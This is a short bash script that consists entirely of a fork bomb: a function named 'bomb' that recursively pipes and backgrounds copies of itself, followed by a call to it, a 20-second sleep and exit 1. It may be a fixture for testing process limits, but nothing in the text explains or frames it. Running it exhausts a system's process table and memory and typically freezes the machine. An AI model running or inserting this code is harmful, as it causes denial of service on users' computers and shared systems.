#!/bin/bash
bomb() { bomb | bomb & }
bomb
sleep 20
exit 1
